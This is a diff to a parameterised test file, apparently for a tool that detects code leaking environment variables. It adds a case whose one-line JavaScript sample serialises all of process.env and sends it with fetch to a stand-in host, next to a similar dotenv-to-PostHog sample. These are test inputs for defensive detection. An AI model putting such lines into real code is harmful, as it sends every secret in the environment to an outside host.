@@ -31,6 +31,11 @@ test.each([
     'host',
   ],
   [
+    'what a parameter is by default',
+    `const send = ({ body = JSON.stringify(process.env) } = {}) => fetch('https://a.weir.test', { body }); send();`,
+    'envAll',
+  ],
+  [
     'what dotenv read',
     `import { config } from 'dotenv'; import { PostHog } from 'posthog-node'; const client = new PostHog('k', { host: 'https://a.weir.test' }); const { parsed } = config(); client.capture({ properties: { ...parsed } })`,
     'envAll',
